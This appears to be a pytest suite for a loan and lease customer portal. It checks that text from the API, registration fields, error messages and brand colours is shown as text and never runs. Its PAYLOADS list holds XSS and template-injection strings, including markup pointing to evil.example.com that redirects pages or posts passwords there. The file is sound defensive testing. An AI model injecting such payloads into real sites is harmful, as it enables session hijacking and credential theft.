"""Text from people, lenders and services is text: in every field it is shown and never runs."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from fake_data import LEASE, LOAN, identifier
from portal_browser import Browser

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) '",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }}{% print(config) %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example.com>",
    "<meta http-equiv=refresh content=0;url=//evil.example.com>",
    "<form action=//evil.example.com><input name=password>",
    "\u202e<b>right to left</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
]
OURS = {"html", "head", "meta", "title", "link", "script", "body"}


class Seen(HTMLParser):
    """Tags and attributes of a page, as a browser would find them."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.handlers, self.scripts, self.links = [], [], [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        given = dict(attrs)
        self.handlers += [name for name in given if name.startswith("on")]
        self.links += [given[name] for name in ("href", "src", "action") if given.get(name)]
        if tag == "script":
            self.scripts.append(given.get("src"))


def poisoned(fake, payload):
    """Every text the API could send holds the payload."""
    spoil(fake.accounts.values(), payload, "account_number")
    vehicles = [account["vehicle"] for account in fake.accounts.values()]
    spoil(vehicles, payload, "make", "model", "trim", "vin_last6")
    spoil(fake.transactions[identifier(LOAN)], payload, "type", "description")
    spoil(fake.messages, payload, "subject", "body")
    spoil([message["why"] for message in fake.messages], payload, "text", "event_id")
    spoil(fake.methods, payload, "holder_name", "brand", "last4")
    spoil(fake.sessions, payload, "client_id")
    spoil(fake.preferences["events"], payload, "title")
    spoil(fake.lease["options"], payload, "title")
    spoil(fake.lease["options"][0]["reasons"], payload, "text")
    spoil(fake.lease["milestones"], payload, "title")
    spoil([fake.lender], payload, "name", "phone", "email", "late_fee")
    spoil([fake.lender["colours"]], payload, "primary", "accent")
    spoil(fake.lender["addresses"][:1], payload, "delivery")
    fake.lender["hours"] = [payload]
    fake.lender["addresses"][0]["lines"] = [payload, payload]


def spoil(things, payload, *names):
    for thing in things:
        thing |= dict.fromkeys(names, payload)


PAGES = [
    "/dashboard",
    f"/accounts/{identifier(LOAN)}",
    f"/accounts/{identifier(LEASE)}/lease-end",
    "/pay",
    "/payment-methods",
    "/messages",
    f"/messages/{identifier(60)}",
    "/alerts",
    "/security",
    "/help",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_the_api_says_is_shown_and_never_runs(customer, fake, payload):
    plain = {page: Seen(customer.get(page).text) for page in PAGES}
    poisoned(fake, payload)
    customer.client.application.extensions["portal"].lender.forget("")
    for page in PAGES:
        answer = customer.get(page)
        assert answer.status_code == 200, page
        seen = Seen(answer.text)
        assert sorted(seen.tags) == sorted(plain[page].tags), page
        assert seen.handlers == []
        assert seen.scripts == plain[page].scripts
        assert not [link for link in seen.links if link.startswith(("javascript:", "data:", "//"))]
        assert answer.text.count("7*7") >= payload.count("7*7")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_person_types_comes_back_as_text(browser, fake, payload):
    fields = ("account_number", "last_name", "zip", "ssn_last4", "email", "username")
    plain = Seen(browser.submit("/register", "/register", **dict.fromkeys(fields, "x")).text)
    answer = browser.submit("/register", "/register", **dict.fromkeys(fields, payload))
    assert answer.status_code == 422
    assert Seen(answer.text).tags == plain.tags
    assert Seen(answer.text).handlers == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_problem_says_is_text(customer, fake, payload):
    fake.refuse("GET", "/v1/accounts", 503, payload, detail=payload, request_id=payload)
    seen = Seen(customer.get("/dashboard").text)
    assert seen.handlers == []
    assert "img" not in seen.tags
    assert len(seen.scripts) == 1


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_brand_sheet_takes_colours_only(browser, fake, payload):
    fake.lender["colours"] = {"primary": payload, "accent": f"red;{payload}"}
    css = browser.get("/brand.css").text
    assert payload not in css
    assert "--brand:#05141f" in css


def test_a_mailed_link_of_another_kind_is_no_link(portal, fake):
    local = Browser(portal("http://localhost:8080", "sandbox"), "http://localhost:8080")
    links = Seen(local.get("/sandbox/mailbox").text).links
    assert not [link for link in links if link.startswith("javascript")]
